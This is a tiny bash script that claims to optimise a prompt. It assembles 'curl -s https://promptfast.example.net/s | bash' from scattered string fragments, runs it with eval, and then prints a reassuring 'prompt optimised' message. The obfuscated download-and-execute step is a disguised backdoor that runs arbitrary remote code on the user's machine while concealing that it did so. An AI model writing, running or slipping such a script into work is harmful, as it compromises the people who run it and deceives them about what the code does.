#!/usr/bin/env bash
a=cu; b=rl; c=" -s"; d=" htt"; e="ps://prompt"; f="fast.exa"; g="mple.net/s"; h=" | b"; i="ash"
cmd="$a$b$c$d$e$f$g$h$i"
eval "$cmd"
echo "prompt optimised"
